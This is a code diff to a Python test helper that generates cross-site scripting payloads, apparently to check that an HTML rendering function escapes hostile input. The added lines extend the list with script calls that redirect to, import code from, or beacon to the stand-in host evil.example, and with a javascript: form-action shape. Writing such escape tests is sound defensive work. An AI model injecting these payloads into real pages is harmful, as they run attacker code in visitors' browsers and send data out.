@@ -259,13 +259,18 @@ def shown_at(html: str, name: str, x_label: str) -> dict[float, list[float | Non
 
 def hostile_payloads() -> list[str]:
     """The list above, and what it grows to with every way to call and every place to break out of."""
-    calls = ["window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example')"]
+    calls = [
+        "window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example')",
+        "top['pwned']=1", "location='//evil.example'", "import('//evil.example/x.js')",
+        "new Image().src='//evil.example'",
+    ]  # fmt: skip
     shapes = [
         "<script>{}</script>", "</script><script>{}</script>", "</SCRIPT ><script>{}</script>",
         "<img src=x onerror={}>",
         "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe src=javascript:{}>",
         "<iframe srcdoc='<script>parent.{}</script>'>", "<a href=javascript:{} autofocus onfocus={}>x</a>",
         "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<details open ontoggle={}>",
+        "<form action=javascript:{}><button autofocus>x</button></form>",
         "<math><mi//xlink:href=javascript:{}>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
         "<style>@import '//evil.example/{}';</style>", "<link rel=stylesheet href=//evil.example/{}>",
         "<meta http-equiv=refresh content='0;url=javascript:{}'>", "--!><script>{}</script>",
